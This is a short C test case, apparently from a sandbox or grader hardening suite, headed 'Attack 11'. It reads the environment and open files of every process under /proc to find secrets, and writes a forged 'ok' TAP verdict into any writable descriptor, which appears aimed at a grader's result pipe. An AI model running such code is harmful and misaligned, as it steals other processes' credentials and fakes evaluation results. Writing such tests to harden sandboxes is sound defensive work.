/*
 * Attack 11: looks for secrets in the environment and the open files of every process it can see.
 * Not at level: 0
 * Expected: there is no file answer.txt
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void show(const char *path)
{
    static char data[1 << 16];
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    ssize_t n = fd < 0 ? -1 : read(fd, data, sizeof(data));
    for (ssize_t i = 0; i < n; i++) {
        putchar(data[i] ? data[i] : '\n');
    }
    if (fd >= 0) {
        close(fd);
    }
}

int main(void)
{
    char path[512];
    DIR *proc = opendir("/proc");
    for (struct dirent *e = proc ? readdir(proc) : NULL; e; e = readdir(proc)) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9') {
            continue;
        }
        snprintf(path, sizeof(path), "/proc/%.20s/environ", e->d_name);
        show(path);
        for (int fd = 0; fd < 32; fd++) {
            snprintf(path, sizeof(path), "/proc/%.20s/fd/%d", e->d_name, fd);
            int pipe = open(path, O_WRONLY | O_NONBLOCK);
            if (pipe > 2) { /* the pipe for verdicts, perhaps */
                dprintf(pipe, "ok 2 - sum\n  ---\n  duration_ms: 1\n  ...\n");
                close(pipe);
            }
            show(path);
        }
    }
    return 0;
}
